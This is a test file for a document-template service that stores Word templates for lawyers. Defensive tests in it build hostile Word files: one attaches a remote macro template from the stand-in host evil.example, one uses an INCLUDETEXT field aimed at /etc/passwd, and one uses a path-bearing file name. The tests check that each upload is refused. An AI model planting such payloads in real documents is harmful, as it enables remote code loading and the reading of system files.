import { randomUUID } from 'node:crypto'
import {
  addLibraryTemplates,
  changeDocumentTemplate,
  createDocumentTemplate,
  giveTemplateFile,
  listDocumentTemplates,
  readDocumentTemplate,
  readTemplateFile,
  removeDocumentTemplate,
} from '@maat/contract/documents/document-templates'
import type { DocumentTemplateId } from '@maat/contract/ids'
import { MOST_FAULTS, type TemplateQuestion } from '@maat/domain/templates/check-template'
import { labelOfQuestion } from '@maat/domain/templates/question-labels'
import { MOST_TEMPLATE_VERSIONS } from '@maat/domain/templates/template-kinds'
import type { Language } from '@maat/domain/words/languages'
import { sql } from 'kysely'
import PizZip from 'pizzip'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { goodPdf } from '../../../../test/files/hostile-files.ts'
import type { TestPerson } from '../../../../test/people.ts'
import { openTestApp, type TestApp } from '../../../../test/test-app.ts'
import { buildWord } from '../../../platform/word/build-word.ts'
import { readBlocks } from '../../../platform/word/read-blocks.ts'
import { readLibrary } from './read-library.ts'

let app: TestApp
let lawyer: TestPerson
let templateId: DocumentTemplateId
beforeAll(async () => {
  app = await openTestApp()
  lawyer = await app.people.create('Avocat')
})
beforeEach(async () => {
  templateId = await create('Mise en demeure')
})
afterAll(() => app.close())

const as = { get: () => ({ token: lawyer.token }) }
const by = () => ({ ...as.get(), params: { templateId } })
const named = (name: string) => ({ fr: name, en: `${name} (en)`, nl: `${name} (nl)` })
async function create(name: string): Promise<DocumentTemplateId> {
  const { body } = await app.call(createDocumentTemplate, {
    ...as.get(),
    body: { name: named(name), kind: 'letter', countries: ['BE'] },
    headers: { 'idempotency-key': randomUUID() },
  })
  return body.id
}
const give = async (bytes: Uint8Array, language: Language = 'fr', name = 'Modèle.docx') =>
  await app.call(giveTemplateFile, { ...by(), query: { language, name }, body: bytes })
const read = async () => (await app.call(readDocumentTemplate, by())).body
const download = async (query: object) =>
  await app.call(readTemplateFile, { ...by(), query: { language: 'fr', ...query } })

test('keeps every version of a file, and makes documents from the newest without faults', async () => {
  expect((await give(buildWord(['{client.nom}']))).body).toMatchObject({ usable: ['fr'] })
  const faulty = await give(buildWord(['{clien.nom}']))
  expect(faulty.status).toBe(200)
  expect(faulty.body.files).toMatchObject([
    { number: 2, faults: [{ kind: 'unknown-field', typed: '{clien.nom}', nearest: 'client.nom' }] },
  ])
  expect(faulty.body.usable).toEqual(['fr'])
  await give(buildWord(['{question.delai | date}']), 'nl')
  const template = await read()
  expect(template.versions.map(({ language, number }) => `${language} ${number}`)).toEqual([
    'fr 2',
    'fr 1',
    'nl 1',
  ])
  expect(template.versions[2]?.questions).toEqual(['delai'])
})

test('gives the file back as it was, or with comments', async () => {
  const bytes = buildWord(['{clien.nom}'])
  await give(bytes)
  const plain = await download({})
  expect(Buffer.from(plain.bytes).equals(Buffer.from(bytes))).toBe(true)
  expect(String(plain.headers['content-disposition'])).toContain('.docx')
  const commented = new PizZip((await download({ commentsIn: 'en' })).bytes)
  expect(commented.file('word/comments.xml')?.asText()).toContain('Did you mean')
  expect((await download({ language: 'nl' })).body.code).toBe('document-template.no-file')
  expect((await download({ number: '9' })).body.code).toBe('document-template.no-file')
  const read = app.services.files.read.bind(app.services.files)
  Object.assign(app.services.files, { read: async () => [Buffer.from('PK')] })
  const broken = await download({ commentsIn: 'en' })
  Object.assign(app.services.files, { read })
  expect(broken.body.code).toBe('document-template.not-word')
})

test('refuses what is no harmless Word file, and stores nothing of it', async () => {
  const zip = new PizZip(buildWord(['a']))
  zip.file(
    'word/_rels/document.xml.rels',
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
  )
  const loaded = await give(zip.generate({ type: 'uint8array' }))
  expect(loaded.body.code).toBe('document.carries-program')
  expect((await give(goodPdf('x'))).body.code).toBe('document-template.not-word')
  expect((await give(buildWord(['a']).subarray(0, 300))).body.code).toBe('document.damaged')
  expect((await give(buildWord(['a']), 'fr', 'a/b.docx')).body.code).toBe('document.name-refused')
  const broken = new PizZip(buildWord(['a']))
  broken.file('word/document.xml', '<w:document><w:body>')
  expect((await give(broken.generate({ type: 'uint8array' }))).body.code).toBe('document-template.not-word')
  expect((await read()).versions).toEqual([])
})

test('refuses a template that inserts another file, and stores nothing of it', async () => {
  const zip = new PizZip(buildWord(['a']))
  const body = zip.file('word/document.xml')?.asText() ?? ''
  const field = '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;/etc/passwd&quot;"/></w:p>'
  zip.file('word/document.xml', body.replace('<w:body>', `<w:body>${field}`))
  const given = await give(zip.generate({ type: 'uint8array' }))
  expect(given.body.code).toBe('document-template.fetches')
  expect((await read()).versions).toEqual([])
})

test('a small file with very many unknown fields ends at once, with a bounded list of faults', async () => {
  const { body } = await give(buildWord(['{inconnu} '.repeat(100_000)]))
  const { faults } = (await read()).versions[0] ?? { faults: [] }
  expect([body.code, faults.length]).toEqual([undefined, MOST_FAULTS])
})

test('counts the versions of a language', async () => {
  await give(buildWord(['a']))
  await sql`insert into template_files (template_id, language, number, file_hash, file_name, faults, fields, questions, uploaded_at)
    select template_id, language, ${MOST_TEMPLATE_VERSIONS}::int, file_hash, file_name, faults, fields, questions, uploaded_at
    from template_files where template_id = ${templateId}::uuid`.execute(app.services.db)
  expect((await give(buildWord(['b']))).body.code).toBe('document-template.too-many-versions')
})

test('changes and removes a template, and says who was faster', async () => {
  const { version } = await read()
  const body = { name: named('Autre'), kind: 'act' as const, countries: [], isToReview: false, version }
  expect((await app.call(changeDocumentTemplate, { ...by(), body })).body).toMatchObject({ kind: 'act' })
  expect((await app.call(changeDocumentTemplate, { ...by(), body })).body).toMatchObject({
    code: 'record.stale',
    current: { kind: 'act' },
  })
  await give(buildWord(['a']))
  expect((await app.call(removeDocumentTemplate, by())).status).toBe(200)
  expect((await app.call(readDocumentTemplate, by())).body.code).toBe('document-template.not-found')
})

test('lists by name, by kind, and those that can be used', async () => {
  await give(buildWord(['a']))
  await create('Zéro fichier')
  const list = async (query: object) =>
    (await app.call(listDocumentTemplates, { ...as.get(), query })).body.items.map(({ name }) => name.fr)
  expect(await list({ search: 'zero fich' })).toEqual(['Zéro fichier'])
  expect(await list({ kind: 'form' })).toEqual([])
  expect(await list({ isUsable: 'true', search: 'zero' })).toEqual([])
  const { body } = await app.call(listDocumentTemplates, { ...as.get(), query: { limit: '1' } })
  const next = await app.call(listDocumentTemplates, {
    ...as.get(),
    query: { limit: '1', after: body.next ?? '' },
  })
  expect(next.body.items[0]?.id).not.toBe(body.items[0]?.id)
})

test('the templates that come with the product have no faults, and are given once', async () => {
  const library = readLibrary()
  const add = async () => (await app.call(addLibraryTemplates, as.get())).body
  const { added } = await add()
  expect(added).toBe(library.length)
  expect(await add()).toEqual({ added: 0 })
  const rows = await app.services.db
    .selectFrom('document_templates as t')
    .innerJoin('template_files as f', 'f.template_id', 't.id')
    .select(['t.library_key', 't.is_to_review', 'f.language', 'f.faults', 'f.questions'])
    .where('t.library_key', 'is not', null)
    .execute()
  expect(rows.filter(({ faults }) => JSON.stringify(faults) !== '[]')).toEqual([])
  expect(rows.every(({ is_to_review }) => is_to_review)).toBe(true)
  expect(rows).toHaveLength(library.reduce((sum, { texts }) => sum + texts.length, 0))
  const questions = rows.flatMap(row => row.questions as unknown as TemplateQuestion[])
  expect(questions.length).toBeGreaterThan(100)
  expect(questions.filter(({ name }) => !labelOfQuestion(name))).toEqual([])
})

test('a library text is a Word file with headings and lists', () => {
  const [template] = readLibrary()
  const blocks = readBlocks(buildWord(template?.texts[0]?.lines ?? []))
  expect(blocks.some(({ kind }) => kind === 'heading')).toBe(true)
})
